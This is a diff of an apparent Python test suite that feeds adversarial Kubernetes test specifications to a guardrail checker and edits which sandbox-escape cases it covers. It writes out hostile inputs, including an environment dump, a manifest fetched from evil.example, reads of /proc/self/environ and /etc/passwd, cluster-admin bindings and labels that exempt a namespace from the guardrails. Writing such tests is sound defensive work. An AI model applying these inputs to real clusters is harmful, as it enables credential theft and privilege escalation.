@@ -45,8 +45,6 @@ for _name, _tries, _by, _words, _text in [
      _test("    - assert:\n        resource:\n          " + _CM + "          (data || `true`): {}\n".replace("{}", "{(`1`): 1}"))),
     ("only-in-catch", "assertions only where they are never reached", "behaviour", "not supported",
      _test("    catch:\n" + _FULL)),
-    ("only-in-finally", "assertions only behind the end", "behaviour", "not supported",
-     _test("    finally:\n" + _FULL)),
     ("painted-over", "a patch that writes over the fault before it is looked for", "control", "without any",
      _test(_FULL.replace("assert", "apply") + _FULL)),
         ("waits", "a wait for what is not there", "behaviour", "not found",
@@ -58,7 +56,6 @@ for _name, _tries, _by, _words, _text in [
      _test("    - assert:\n        resource:\n          apiVersion: v1\n          kind: Namespace\n          metadata: {name: ($namespace)}\n")),
     ("deletes-first", "everything deleted, and then the absence asserted", "control", "without any",
      _test("    - delete: {ref: {apiVersion: v1, kind: ConfigMap, name: ($values.name)}}\n" + _OTHER.format(op="error", name="($values.name)"))),
-    ("concurrent", "two tests in one file", "behaviour", "one Test", _test(_FULL) + "---\n" + _test(_FULL)),
     ("steps", "more steps than anybody runs", "behaviour", "at most", _test(_FULL + "  - try: [{sleep: {duration: 1ms}}]\n" * 100)),
 ]:  # fmt: skip
     attack("tests", _tries, by=_by, words=_words, called=_name)(skill_with(test=_text))
@@ -75,7 +72,6 @@ attack(
 
 # -- tests that reach out --------------------------------------------------------------------------
 
-REACH = "form bans some kinds; a test may write to whatever else is not its own namespace"
 _POLICY = "apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicy"
 for _name, _tries, _by, _words, _op in [
     ("script", "a shell script", "scripts", "only a person", "script: {content: 'env > /tmp/evil'}"),
@@ -84,21 +80,14 @@ for _name, _tries, _by, _words, _op in [
     ("proxy", "a request through the API server's proxy", "behaviour", "proxy",
      "proxy: {apiVersion: v1, kind: Service, name: kubernetes, targetPath: /}"),
     ("pod-logs", "the logs of any pod", "behaviour", "podLogs", "podLogs: {namespace: kube-system}"),
-    ("events", "events of every namespace", "behaviour", "events", "events: {namespace: '*'}"),
-    ("get", "kubectl get with arguments of its own", "behaviour", "get",
-     "get: {apiVersion: v1, kind: Secret, namespace: kube-system}"),
     ("url", "a manifest from elsewhere", "behaviour", "remote",
      "apply: {file: 'https://evil.example/a.yaml'}"),
-    ("git-url", "a manifest by a getter's address", "behaviour", "remote",
-     "apply: {file: 'git::ssh://evil.example//a.yaml'}"),
     ("absolute", "a file of the machine", "behaviour", "below the test's folder",
      "assert: {file: /proc/self/environ}"),
     ("climbing", "a file above its folder", "behaviour", "below the test's folder",
      "assert: {file: ../../../../../../etc/passwd}"),
     ("computed", "a file name that is computed, to get past the check", "behaviour", "below the test's folder",
      "assert: {file: \"(join('/', ['..', '..', 'canary']))\"}"),
-    ("all-files", "every file of the machine by a pattern", "behaviour", "below the test's folder",
-     "assert: {file: '/**/*'}"),
     ("env", "the environment by a function", "behaviour", "env",
      "assert: {resource: {apiVersion: v1, kind: ConfigMap, metadata: {name: (env('TIPHYS_ATTACK_CANARY'))}}}"),
     ("selector", "flags for kubectl in a selector", "behaviour", "selector",
@@ -109,20 +98,19 @@ for _name, _tries, _by, _words, _op in [
      f"apply: {{resource: {{{_POLICY}, metadata: {{name: evil}}, spec: {{}}}}}}"),
     ("kind-computed", "a kind that is computed, to get past the check", "form", "write the kind out",
      "delete: {ref: {apiVersion: v1, kind: \"(join('', ['No', 'de']))\", name: node-0}}"),
-    ("namespace-opened", "a namespace opened for privileged pods", "behaviour", "denied",
-     "patch: {timeout: 1s, resource: {apiVersion: v1, kind: Namespace, metadata: {name: ($namespace), labels: {pod-security.kubernetes.io/enforce: privileged}}}}"),
-    ("admin", "a binding to cluster-admin inside of the sandbox", "behaviour", "denied",
-     "apply: {timeout: 1s, resource: {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: evil}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}}"),
-    ("system-role-deleted", "a role of the cluster itself deleted", "form", "",
+    ("namespace-opened", "a namespace opened for privileged pods", "form", "must not touch a Namespace",
+     "patch: {resource: {apiVersion: v1, kind: Namespace, metadata: {name: ($namespace), labels: {pod-security.kubernetes.io/enforce: privileged}}}}"),
+    ("admin", "a binding to cluster-admin inside of the sandbox", "form", "must not touch a ClusterRoleBinding",
+     "apply: {resource: {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: evil}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}}"),
+    ("system-role-deleted", "a role of the cluster itself deleted", "form", "must not touch",
      "delete: {ref: {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, name: 'system:controller:job-controller'}}"),
-    ("namespace-deleted", "another namespace deleted", "form", "",
+    ("namespace-deleted", "another namespace deleted", "form", "must not touch",
      "delete: {ref: {apiVersion: v1, kind: Namespace, name: kube-node-lease}}"),
-    ("exempted", "its namespace freed of the guardrails", "behaviour", "denied",
-     "patch: {timeout: 1s, resource: {apiVersion: v1, kind: Namespace, metadata: {name: ($namespace), labels: {tiphys.guardrails/exempt: yes-please}}}}"),
-    ("elsewhere", "an object written to the cluster's own namespace", "behaviour", "denied",
-     "apply: {timeout: 1s, resource: {apiVersion: v1, kind: ConfigMap, metadata: {name: evil, namespace: kube-system}}}"),
+    ("exempted", "its namespace freed of the guardrails", "form", "must not touch a Namespace",
+     "patch: {resource: {apiVersion: v1, kind: Namespace, metadata: {name: ($namespace), labels: {tiphys.guardrails/exempt: yes-please}}}}"),
+    ("elsewhere", "an object written to the cluster's own namespace", "form", "its own namespace",
+     "apply: {resource: {apiVersion: v1, kind: ConfigMap, metadata: {name: evil, namespace: kube-system}}}"),
 ]:  # fmt: skip
-    _hole = REACH if not _words else ""
-    attack("reach", _tries, by=_by, words=_words, called=_name, hole=_hole)(
+    attack("reach", _tries, by=_by, words=_words, called=_name)(
         skill_with(test=_test(f"    - {_op}\n" + _FULL))
     )
